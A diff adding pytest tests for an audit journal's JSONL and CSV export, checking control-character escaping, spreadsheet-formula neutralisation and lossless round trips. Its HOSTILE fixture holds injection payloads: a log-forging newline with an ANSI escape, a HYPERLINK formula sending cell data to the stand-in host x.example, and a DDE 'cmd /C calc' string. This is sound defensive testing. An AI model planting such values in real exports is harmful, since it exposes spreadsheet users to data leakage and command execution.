@@ -1,0 +1,190 @@
+"""``audit export``: JSONL and CSV with control characters escaped (one record, one line),
+spreadsheet formulas neutralised, and a lossless round trip back to the stored records."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+from sqlalchemy import select
+
+from audit.chain import FIELDS, format_time
+from audit.models import JournalRecord
+from audit.query import write_csv, write_jsonl
+from sekisho.services import Services
+from tests.audit.conftest import append, append_event, event, run_cli
+from tests.conftest import FakeClock
+
+HOSTILE = {
+    "object_dn": "CN=evil\n12 ca.revoke forged\r\x1b[2J,O=Corp",
+    "actor_account": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "device_id": "+cmd|' /C calc'!A0",
+    "client_ip": "-2+3",
+    "request_id": "@SUM(A1:A9)",
+    "device_mac": "'quoted\ttab\x7fdel\x85nel",
+    "detail": {"note": "line\u2028sep\u2029para \\ back", "bell": "\x07", "esc": "\x1b"},
+}
+NUL_DN = "CN=nul\x00byte,O=Corp"
+
+
+@pytest.fixture
+def stored(journal_services: Services, clock: FakeClock) -> list[JournalRecord]:
+    append(journal_services, clock, 5)
+    clock.advance(seconds=1)
+    append_event(journal_services, clock, event(20, **HOSTILE))
+    clock.advance(seconds=1)
+    append_event(journal_services, clock, event(21, object_dn=NUL_DN))
+    append(journal_services, clock, 2, start=30)
+    with journal_services.db.scope() as session:
+        return list(session.scalars(select(JournalRecord).order_by(JournalRecord.seq)))
+
+
+def export(
+    capsys: pytest.CaptureFixture[str], data_dir: Path, tmp_path: Path, fmt: str, *args: str
+) -> str:
+    out_file = tmp_path / f"export.{fmt}"
+    code, _out, err = run_cli(
+        capsys, data_dir, "audit", "export", "--format", fmt, "-o", str(out_file), *args
+    )
+    assert code == 0, err
+    data = out_file.read_bytes().decode("utf-8")
+    assert not out_file.with_name(out_file.name + ".part").exists()
+    return data
+
+
+def assert_one_line_per_record(text: str, lines: int) -> None:
+    assert text.endswith("\n")
+    assert text.count("\n") == lines
+    bad = [ch for ch in text if (ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) < 0xA0]
+    assert bad == []
+    assert "\u2028" not in text and "\u2029" not in text
+
+
+def test_stored_record_keeps_hostile_text_verbatim(stored: list[JournalRecord]) -> None:
+    hostile = stored[-4]
+    assert hostile.object_dn == HOSTILE["object_dn"]
+    assert hostile.actor_account == HOSTILE["actor_account"]
+    # PostgreSQL text cannot hold NUL; the journal stores U+FFFD on every backend instead of
+    # failing the operation it records.
+    assert stored[-3].object_dn == NUL_DN.replace("\x00", "\ufffd")
+
+
+def test_jsonl_export_is_one_line_per_record_and_round_trips(
+    stored: list[JournalRecord],
+    cli_data_dir: Path,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    text = export(capsys, cli_data_dir, tmp_path, "jsonl")
+    assert_one_line_per_record(text, len(stored))
+    assert "\\n12 ca.revoke forged" in text.splitlines()[len(stored) - 4]
+    docs = [json.loads(line) for line in text.splitlines()]
+    assert len(docs) == len(stored)
+    for doc, row in zip(docs, stored, strict=True):
+        expected = {name: getattr(row, name) for name in FIELDS}
+        expected["time"] = format_time(row.time)
+        expected["detail"] = json.loads(row.detail)
+        expected["hash"] = row.hash
+        assert doc == expected
+
+
+def unescape(cell: str) -> str:
+    """Undo the exporter's escaping: the formula guard's leading quote, then ``\\xNN``,
+    ``\\uNNNN`` and ``\\\\``."""
+    if cell[:1] == "'":
+        cell = cell[1:]
+
+    def one(match: re.Match[str]) -> str:
+        token = match.group(1)
+        return "\\" if token == "\\" else chr(int(token[1:], 16))
+
+    return re.sub(r"\\(\\|x[0-9a-f]{2}|u[0-9a-f]{4})", one, cell)
+
+
+def test_csv_export_is_one_line_per_record_neutralises_formulas_and_round_trips(
+    stored: list[JournalRecord],
+    cli_data_dir: Path,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    text = export(capsys, cli_data_dir, tmp_path, "csv")
+    assert_one_line_per_record(text, len(stored) + 1)
+    table = list(csv.reader(io.StringIO(text)))
+    header, body = table[0], table[1:]
+    assert header == [*FIELDS, "hash"]
+    assert len(body) == len(stored)
+
+    cells = dict(zip(header, body[len(stored) - 4], strict=True))
+    for column in ("actor_account", "device_id", "client_ip", "request_id"):
+        assert cells[column][0] == "'", column  # a spreadsheet shows it as text
+    for row in body:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+    for cells_list, record in zip(body, stored, strict=True):
+        got = {name: unescape(cell) for name, cell in zip(header, cells_list, strict=True)}
+        expected = {
+            name: "" if getattr(record, name) is None else str(getattr(record, name))
+            for name in FIELDS
+        }
+        expected["time"] = format_time(record.time)
+        expected["hash"] = record.hash
+        assert got == expected
+        assert json.loads(got["detail"]) == json.loads(record.detail)
+
+
+def test_export_applies_the_search_filters(
+    stored: list[JournalRecord],
+    cli_data_dir: Path,
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+) -> None:
+    text = export(capsys, cli_data_dir, tmp_path, "jsonl", "--dn", "nul\ufffdbyte")
+    assert [json.loads(line)["seq"] for line in text.splitlines()] == [stored[-3].seq]
+    capsys.readouterr()
+    code, out, err = run_cli(capsys, cli_data_dir, "audit", "export", "--category", "auth")
+    assert code == 0
+    docs = [json.loads(line) for line in out.splitlines()]
+    assert docs and {d["category"] for d in docs} == {"auth"}
+    assert f"exported {len(docs)} records" in err
+
+
+def test_writers_escape_nul_and_every_control_character() -> None:
+    """The exporters themselves, on a record that never went through the store (so NUL and
+    every C0/C1 control reach them as they are)."""
+    controls = "".join(chr(c) for c in (*range(0x20), *range(0x7F, 0xA0))) + "\u2028\u2029"
+    row = JournalRecord(
+        seq=1,
+        time=dt.datetime(2026, 1, 2, 3, 4, 5, 6, tzinfo=dt.UTC),
+        category="auth",
+        action="auth.login",
+        outcome="denied",
+        actor_account="-" + controls,
+        object_dn="CN=a\x00b\nc\\d",
+        detail='{"x":"\\u0000"}',
+        hash="ab" * 32,
+    )
+    out = io.StringIO()
+    assert write_jsonl(iter([row]), out) == 1
+    line = out.getvalue()
+    assert_one_line_per_record(line, 1)
+    assert "\\u0000" in line
+    doc = json.loads(line)
+    assert doc["actor_account"] == "-" + controls and doc["object_dn"] == "CN=a\x00b\nc\\d"
+    assert doc["detail"] == {"x": "\x00"}
+
+    out = io.StringIO()
+    assert write_csv(iter([row]), out) == 1
+    text = out.getvalue()
+    assert_one_line_per_record(text, 2)
+    assert "\\x00" in text and "\\x1b" in text and "\\x85" in text and "\\u2028" in text
+    cells = dict(zip(*csv.reader(io.StringIO(text)), strict=True))
+    assert cells["actor_account"].startswith("'-")
+    assert unescape(cells["actor_account"]) == "-" + controls
+    assert unescape(cells["object_dn"]) == "CN=a\x00b\nc\\d"
+    assert unescape(cells["time"]) == "2026-01-02T03:04:05.000006Z"
